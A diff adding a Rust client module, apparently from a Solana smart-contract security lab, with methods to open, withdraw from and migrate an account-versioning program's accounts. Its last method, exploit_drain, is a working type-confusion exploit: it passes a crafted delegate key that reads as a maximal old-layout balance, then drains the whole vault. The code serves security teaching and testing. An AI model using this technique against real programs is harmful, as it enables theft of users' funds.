@@ -0,0 +1,63 @@
+//! account_versioning: opening, withdrawing from and migrating a user
+//! account
+
+use anyhow::Result as AnyResult;
+use lab_instructions::account_versioning::{migrate_ix, open_ix, withdraw_ix};
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("account_versioning");
+
+impl Client {
+    /// `user` opens `user_account`, naming `delegate`
+    pub async fn open(
+        &self,
+        user: &Keypair,
+        user_account: Pubkey,
+        delegate: Pubkey,
+    ) -> AnyResult<Signature> {
+        let open = open_ix(self.program_id(), user.pubkey(), user_account, delegate);
+        self.send(&[open], &[user]).await
+    }
+
+    /// `user` withdraws `amount` of `user_account`'s balance from `vault`
+    pub async fn withdraw(
+        &self,
+        user: &Keypair,
+        user_account: Pubkey,
+        vault: Pubkey,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let withdraw = withdraw_ix(
+            self.program_id(),
+            user.pubkey(),
+            user_account,
+            vault,
+            amount,
+        );
+        self.send(&[withdraw], &[user]).await
+    }
+
+    /// `user` migrates `user_account` to the second layout
+    pub async fn migrate(&self, user: &Keypair, user_account: Pubkey) -> AnyResult<Signature> {
+        let migrate = migrate_ix(self.program_id(), user.pubkey(), user_account);
+        self.send(&[migrate], &[user]).await
+    }
+
+    /// Opens `user_account`, an empty account the program owns, with a
+    /// delegate whose first eight bytes read as a v1 balance of u64::MAX,
+    /// then withdraws everything in `vault` to the payer; returns the
+    /// lamports taken
+    pub async fn exploit_drain(&self, user_account: Pubkey, vault: Pubkey) -> AnyResult<u64> {
+        let stolen = self.lamports(vault).await?;
+        let attacker = self.payer().pubkey();
+        let delegate = Pubkey::new_from_array([0xff; 32]);
+        let instructions = [
+            open_ix(self.program_id(), attacker, user_account, delegate),
+            withdraw_ix(self.program_id(), attacker, user_account, vault, stolen),
+        ];
+        self.send(&instructions, &[]).await?;
+        Ok(stolen)
+    }
+}